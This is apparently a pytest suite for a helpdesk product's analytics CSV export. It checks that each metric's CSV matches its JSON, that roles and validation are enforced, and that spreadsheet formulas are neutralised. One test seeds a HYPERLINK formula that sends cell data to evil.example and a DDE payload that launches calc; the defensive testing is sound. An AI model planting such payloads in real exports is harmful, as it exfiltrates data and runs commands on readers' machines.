"""GET /api/v1/analytics/{metric}.csv: every metric's table matches its JSON, the roles and filters are the
JSON's, formula cells are neutralised, and the page links each table's download."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest
from analytics_support import Seeded, at, seed_conversations, seed_tickets
from psycopg.types.json import Jsonb

from api.analytics.export import safe_cell
from api.analytics.models import Metric
from api.auth.models import Role

MARCH = {"from": "2019-03-04", "to": "2019-03-17"}
JUNE = {"from": "2019-06-01", "to": "2019-06-30"}  # conversations: no other test writes to June 2019


@pytest.fixture
async def agent(make_actor):
    return await make_actor(Role.agent)


@pytest.fixture
async def seeded(conn, make_actor, agent) -> Seeded:
    employee = await make_actor(Role.employee)
    history = await seed_tickets(conn, requester_id=employee.user.id, agent_id=agent.user.id)
    for key, who, score in (("A", "person", 4), ("B", "bot", 5)):
        await conn.execute(
            "INSERT INTO csat_surveys (ticket_id, requester_id, resolved_by, status, channel, asked_at, answered_at, "
            "score, comment) VALUES (%s, %s, %s, 'sent', 'web', %s, %s, %s, 'fine')",
            (history.tickets[key], employee.user.id, who, at(11, 12), at(12, 12), score))
    return history


def _cell(value: Any) -> str:
    return "" if value is None else str(value)


async def _both(client: httpx.AsyncClient, actor, metric: str, params: dict[str, str]
                ) -> tuple[dict[str, Any], list[dict[str, str]]]:
    """The metric's JSON data and its CSV rows (as dicts by the header row)."""
    body = await client.get(f"/api/v1/analytics/{metric}", params=params, headers=actor.headers)
    table = await client.get(f"/api/v1/analytics/{metric}.csv", params=params, headers=actor.headers)
    assert body.status_code == table.status_code == 200, table.text
    assert table.headers["content-type"] == "text/csv; charset=utf-8"
    return body.json()["data"], list(csv.DictReader(io.StringIO(table.text)))


async def test_ticket_metrics_csv_match_their_json(client, agent, seeded) -> None:
    params = MARCH | {"team": seeded.team}
    data, rows = await _both(client, agent, "volume", params)
    assert [r["bucket"] for r in rows] == [str(b) for b in data["buckets"]] and len(rows) == 14
    assert [r["total"] for r in rows] == [_cell(v) for v in data["total"]]
    assert [r["source:WEB"] for r in rows] == [_cell(v) for v in data["by_source"]["WEB"]]
    cat = seeded.categories[0]
    assert [r[f"category:{cat}"] for r in rows] == [_cell(v) for v in data["by_category"][cat]]

    data, rows = await _both(client, agent, "backlog", params)
    assert [(r["bucket"], r["open"]) for r in rows] == list(zip(map(str, data["buckets"]), map(str, data["open"]),
                                                                strict=True))
    for metric in ("mtta", "mttr"):
        data, rows = await _both(client, agent, metric, params)
        assert rows[0] | {} == {"group": "all", "name": "", "tickets": _cell(data["tickets"]),
                                "mean_hours": _cell(data["mean_hours"]), "median_hours": _cell(data["median_hours"])}
        assert [(r["name"], r["tickets"], r["mean_hours"]) for r in rows if r["group"] == "category"] == [
            (c["category"], _cell(c["tickets"]), _cell(c["mean_hours"])) for c in data["by_category"]]

    data, rows = await _both(client, agent, "reopen_rate", params)
    assert rows == [{"resolved": "3", "reopened": "1", "rate": "0.3333"}] and data["rate"] == 0.3333
    data, rows = await _both(client, agent, "fcr", params)
    assert rows == [{k: _cell(v) for k, v in data.items()}]

    data, rows = await _both(client, agent, "sla", params)
    assert {k: rows[0][k] for k in ("tickets", "both_met", "compliance", "breaches")} == {
        k: _cell(data[k]) for k in ("tickets", "both_met", "compliance", "breaches")}
    assert [r["resolve_breaches"] for r in rows[1:]] == [_cell(v) for v in data["breaches_series"]["resolve"]]
    assert sum(int(r["breaches"]) for r in rows[1:]) == data["breaches"] == 1


async def test_conversation_kb_and_csat_csv_match_their_json(client, conn, agent, seeded, make_actor) -> None:
    employee = await make_actor(Role.employee)
    await seed_conversations(conn, employee_id=employee.user.id, ticket_id=seeded.tickets["B"], month=6)
    data, rows = await _both(client, agent, "deflection", JUNE)
    assert rows[0] | {} == {"intent": "all", "conversations": "4", "bot_resolved": "2", "escalated": "1", "open": "1",
                            "containment": _cell(data["containment"]), "deflection_rate": "0.6667"}
    assert [(r["intent"], r["conversations"], r["containment"]) for r in rows[1:]] == [
        (i["intent"], _cell(i["conversations"]), _cell(i["containment"])) for i in data["by_intent"]]

    data, rows = await _both(client, agent, "bot_failures", JUNE)
    assert [(r["text"], r["failed"]) for r in rows if r["kind"] == "intent"] == [
        (i["intent"], _cell(i["failed"])) for i in data["intents"]]
    assert [r["text"] for r in rows if r["kind"] == "question"] == [q["question"] for q in data["questions"]]
    assert [(r["text"], r["not_helpful"]) for r in rows if r["kind"] == "unhelpful_answer"] == [
        ("printer on floor 3 jams", "1")]

    data, rows = await _both(client, agent, "kb", JUNE)
    assert [(r["id"], r["views"], r["helpful"]) for r in rows] == [
        (a["id"], _cell(a["views"]), _cell(a["helpful"])) for a in data["articles"]]

    data, rows = await _both(client, agent, "csat", MARCH | {"team": seeded.team})
    assert [(r["resolved_by"], r["answered"], r["average"], r["score_4"], r["score_5"]) for r in rows] == [
        ("bot", "1", "5.0", "0", "1"), ("person", "1", "4.0", "1", "0")]
    assert [r["answered"] for r in rows] == [_cell(data["bot"]["answered"]), _cell(data["person"]["answered"])]


async def test_every_metric_has_a_csv_with_a_header_and_a_filename(client, agent, seeded) -> None:
    params = MARCH | {"team": seeded.team, "category": seeded.categories[0], "granularity": "week"}
    for metric in Metric:
        table = await client.get(f"/api/v1/analytics/{metric.value}.csv", params=params, headers=agent.headers)
        assert table.status_code == 200, (metric, table.text)
        header = next(csv.reader(io.StringIO(table.text)))
        assert header and all(header), metric
        assert table.headers["content-disposition"] == (
            f'attachment; filename="deskmate-{metric.value}-2019-03-04-2019-03-17-team-{seeded.team}'
            f'-category-{seeded.categories[0]}.csv"')
    weekly = await client.get("/api/v1/analytics/volume.csv", params=params, headers=agent.headers)
    assert [r["bucket"] for r in csv.DictReader(io.StringIO(weekly.text))] == ["2019-03-04", "2019-03-11"]


async def test_the_csv_has_the_jsons_roles_and_validation(client, make_actor, agent) -> None:
    employee, admin = await make_actor(Role.employee), await make_actor(Role.admin)
    assert (await client.get("/api/v1/analytics/volume.csv")).status_code == 401
    refused = await client.get("/api/v1/analytics/volume.csv", headers=employee.headers)
    assert refused.status_code == 403 and refused.headers["content-type"].startswith("application/problem+json")
    for actor in (agent, admin):
        assert (await client.get("/api/v1/analytics/backlog.csv", headers=actor.headers)).status_code == 200
    for params in ({"from": "2019-03-10", "to": "2019-03-01"}, {"team": "Not A Slug"}, {"format": "csv"}):
        bad = await client.get("/api/v1/analytics/volume.csv", params=params, headers=agent.headers)
        assert bad.status_code == 422 and bad.headers["content-type"].startswith("application/problem+json")
    assert (await client.get("/api/v1/analytics/happiness.csv", headers=agent.headers)).status_code == 422


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("plain", "plain"), ("a=b", "a=b"), (-2, -2), (None, None),
])
def test_formula_cells_get_a_leading_apostrophe(text: Any, cell: Any) -> None:
    assert safe_cell(text) == cell


async def test_a_question_that_is_a_formula_is_exported_as_text(client, conn, agent, make_actor) -> None:
    employee = await make_actor(Role.employee)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"help")'
    cid = (await (await conn.execute(
        "INSERT INTO chat_conversations (id, employee_id, channel, created_at, last_message_at) "
        "VALUES (gen_random_uuid(), %s, 'web', %s, %s) RETURNING id",
        (employee.user.id, at(20, 10, month=6), at(20, 10, month=6)))).fetchone())["id"]
    for text in (formula, "@cmd|' /C calc'!A0"):
        await conn.execute(
            "INSERT INTO chat_messages (conversation_id, direction, text, payload, intent, confidence, created_at) "
            "VALUES (%s, 'user', %s, %s, 'nlu_fallback', 0.1, %s)", (cid, text, Jsonb({}), at(20, 10, month=6)))
    table = await client.get("/api/v1/analytics/bot_failures.csv", params=JUNE, headers=agent.headers)
    questions = [r["text"] for r in csv.DictReader(io.StringIO(table.text)) if r["kind"] == "question"]
    assert "'" + formula.lower() in questions and "'@cmd|' /c calc'!a0" in questions
    assert not any(q.startswith(("=", "+", "-", "@")) for q in questions)


async def test_the_page_links_each_tables_csv_with_its_filters(client, agent, seeded) -> None:
    page = await client.get("/console/analytics", headers=agent.headers | {"accept": "text/html"},
                            params=MARCH | {"team": seeded.team, "category": ""})
    assert page.status_code == 200
    links = re.findall(r'<a class="csv" href="([^"]+)" download aria-label="Download CSV: [^"]+">Download CSV</a>',
                       page.text)
    metrics = {re.match(r"/api/v1/analytics/(\w+)\.csv\?", link).group(1) for link in links}  # type: ignore[union-attr]
    assert metrics == {"volume", "backlog", "deflection", "sla", "csat", "mttr", "bot_failures", "kb"}
    query = f"from=2019-03-04&amp;to=2019-03-17&amp;team={seeded.team}&amp;granularity=day"
    assert all(link.endswith(query) for link in links)
    follow = await client.get(links[0].replace("&amp;", "&"), headers=agent.headers)
    assert follow.status_code == 200 and follow.text.startswith("bucket,total")
